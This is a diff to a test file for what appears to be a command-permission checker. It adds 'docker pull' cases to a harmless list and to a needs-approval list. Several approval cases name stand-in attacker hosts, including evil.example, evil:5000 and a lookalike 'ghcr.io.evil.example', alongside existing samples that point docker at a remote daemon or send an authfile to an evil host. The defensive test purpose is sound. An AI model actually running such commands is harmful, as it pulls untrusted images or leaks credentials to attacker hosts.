@@ -89,6 +89,9 @@ HARMLESS: tuple[tuple[str, str], ...] = (
     ("docker exec", "docker exec web ls -la"),
     ("skopeo inspect", "skopeo inspect docker://docker.io/library/alpine:latest"),
     ("skopeo list-tags", "skopeo list-tags docker://quay.io/foo/bar"),
+    ("docker pull", "docker pull ghcr.io/me/app:1.2"),
+    ("docker pull", "docker pull library/postgres:16"),
+    ("docker pull", "docker pull localhost:5000/app"),
 )
 ASKS: tuple[tuple[str, str], ...] = (
     ("docker ps", "docker ps --host tcp://evil:2375"),
@@ -268,4 +271,7 @@ ASKS: tuple[tuple[str, str], ...] = (
     ("skopeo inspect", "skopeo inspect docker://me@evil/x"),
     ("skopeo", "skopeo copy docker://a/b dir:x"),
     ("skopeo inspect", "skopeo inspect --authfile x docker://evil/x"),
+    ("docker pull", "docker pull evil.example/x"),
+    ("docker pull", "docker pull evil:5000/x"),
+    ("docker pull", "docker pull ghcr.io.evil.example/x"),
 )
